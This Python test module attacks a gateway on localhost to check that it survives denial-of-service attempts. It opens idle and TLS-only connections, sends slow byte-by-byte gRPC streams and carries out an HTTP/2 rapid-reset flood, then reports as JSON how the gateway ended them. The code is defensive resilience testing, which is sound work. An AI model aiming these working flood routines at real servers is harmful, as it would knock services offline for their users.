"""Attacks a gateway from a process of its own; prints what became of its connections as JSON.

python -m tests.attacker KIND PORT KEYS COUNT PATIENCE_S INTERVAL_S
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import ssl
import sys
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

__all__ = ("ATTACKER", "KINDS", "Damage", "main")

ATTACKER = "attacker"
"""Tenant whose certificate the attacker has."""
KINDS = ("silent", "tls-only", "slow-streams", "rapid-reset")

_PER_CONNECTION = 100
_BATCH = 50
_READ_BYTES = 65_536
_HEADERS = (
    (":method", "POST"),
    (":scheme", "https"),
    (":path", "/hounsfield.ingest.v1.Ingest/GetJob"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)
# A message of 38 bytes is announced, and comes byte by byte.
_SLOW_MESSAGE = b"\x00\x00\x00\x00\x26" + b"\x0a\x24" + b"0" * 36


@dataclass
class Damage:
    """What the attacker saw.

    Attributes:
        opened: Connections or streams that were begun.
        ended: Those that the gateway ended.
        longest_s: How long the last one of them had been open.
        reconnects: How often the gateway closed a whole connection.
        took_s: Duration of the attack.
    """

    opened: int = 0
    ended: int = 0
    longest_s: float = 0.0
    reconnects: int = 0
    took_s: float = 0.0
    began: dict[object, float] = field(default_factory=dict)

    def begin(self, what: object) -> None:
        """Note that something was opened."""
        self.opened += 1
        self.began[what] = time.monotonic()

    def end(self, what: object) -> None:
        """Note that the gateway ended it."""
        if (since := self.began.pop(what, None)) is not None:
            self.ended += 1
            self.longest_s = max(self.longest_s, time.monotonic() - since)


@dataclass(frozen=True)
class Plan:
    """What to do, and for how long to wait for its end."""

    port: int
    keys: Path
    count: int
    patience_s: float
    interval_s: float

    def tls(self) -> ssl.SSLContext:
        """Return TLS with the attacker's own, good certificate."""
        context = ssl.create_default_context(cafile=self.keys / "ca.pem")
        own = self.keys / "senders" / ATTACKER
        context.load_cert_chain(f"{own}.pem", f"{own}.key")
        context.set_alpn_protocols(["h2"])
        return context


async def _silent(plan: Plan, damage: Damage, context: ssl.SSLContext | None = None) -> None:
    async def hold(number: int) -> None:
        name = "localhost" if context else None
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", plan.port, ssl=context, server_hostname=name
            )
            damage.begin(number)
            try:
                while await reader.read(_READ_BYTES):
                    pass
            finally:
                damage.end(number)
                writer.close()

    await _until_ended((hold(n) for n in range(plan.count)), plan.patience_s)


async def _slow_streams(plan: Plan, damage: Damage) -> None:
    async def hold(first: int, streams: int) -> None:
        connection = _Connection(plan, damage)
        await connection.open()
        ids = [connection.begin((first, n)) for n in range(streams)]
        listening = asyncio.create_task(connection.listen())
        try:
            for byte in _SLOW_MESSAGE:
                for stream in ids:
                    connection.send(stream, bytes((byte,)))
                await connection.flush()
                await asyncio.wait({listening}, timeout=plan.interval_s)
                if listening.done() or connection.finished:
                    return
        finally:
            listening.cancel()
            connection.close()

    parts = range(0, plan.count, _PER_CONNECTION)
    held = (hold(n, min(_PER_CONNECTION, plan.count - n)) for n in parts)
    await _until_ended(held, plan.patience_s)


async def _rapid_reset(plan: Plan, damage: Damage) -> None:
    done = 0
    while done < plan.count:
        connection = _Connection(plan, damage)
        await connection.open()
        listening = asyncio.create_task(connection.listen())
        try:
            while done < plan.count and not listening.done():
                for _ in range(min(_BATCH, plan.count - done)):
                    connection.reset(connection.begin((done, id(connection))))
                    done += 1
                await connection.flush()
        except (OSError, h2.exceptions.ProtocolError):
            damage.reconnects += 1
        finally:
            listening.cancel()
            connection.close()


class _Connection:
    """One HTTP/2 connection, as far as an attacker needs it."""

    def __init__(self, plan: Plan, damage: Damage) -> None:
        self._plan = plan
        self._damage = damage
        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
        self._names: dict[int, object] = {}

    @property
    def finished(self) -> bool:
        return not self._names

    async def open(self) -> None:
        self._reader, self._writer = await asyncio.open_connection(
            "127.0.0.1", self._plan.port, ssl=self._plan.tls(), server_hostname="localhost"
        )
        self._h2.initiate_connection()
        await self.flush()

    def begin(self, name: object) -> int:
        stream = self._h2.get_next_available_stream_id()
        self._h2.send_headers(stream, _HEADERS)
        self._names[stream] = name
        self._damage.begin(name)
        return stream

    def send(self, stream: int, content: bytes) -> None:
        if stream in self._names:
            with contextlib.suppress(h2.exceptions.ProtocolError):
                self._h2.send_data(stream, content)

    def reset(self, stream: int) -> None:
        self._h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        self._damage.end(self._names.pop(stream))

    async def flush(self) -> None:
        self._writer.write(self._h2.data_to_send())
        await self._writer.drain()

    async def listen(self) -> None:
        ends = h2.events.StreamEnded, h2.events.StreamReset
        with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
            while content := await self._reader.read(_READ_BYTES):
                for event in self._h2.receive_data(content):
                    if isinstance(event, ends) and event.stream_id in self._names:
                        self._damage.end(self._names.pop(event.stream_id))
                await self.flush()
        for name in self._names.values():
            self._damage.end(name)
        self._names.clear()

    def close(self) -> None:
        self._writer.close()


async def _until_ended(held: object, patience_s: float) -> None:
    tasks = [asyncio.create_task(one) for one in held]  # type: ignore[attr-defined]
    _, late = await asyncio.wait(tasks, timeout=patience_s)
    for task in late:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def _attack(kind: str, plan: Plan) -> Damage:
    damage = Damage()
    start = time.monotonic()
    match kind:
        case "silent":
            await _silent(plan, damage)
        case "tls-only":
            await _silent(plan, damage, plan.tls())
        case "slow-streams":
            await _slow_streams(plan, damage)
        case "rapid-reset":
            await _rapid_reset(plan, damage)
        case _:
            raise SystemExit(f"Expected one of {', '.join(KINDS)}.")
    damage.took_s = time.monotonic() - start
    return damage


def main() -> None:
    """Attack as the arguments say, at the lowest priority: an attacker has a machine of its own."""
    kind, port, keys, count, patience_s, interval_s = sys.argv[1:]
    os.nice(19)
    plan = Plan(int(port), Path(keys), int(count), float(patience_s), float(interval_s))
    seen = asdict(asyncio.run(_attack(kind, plan)))
    seen.pop("began")
    sys.stdout.write(json.dumps(seen))


if __name__ == "__main__":
    main()
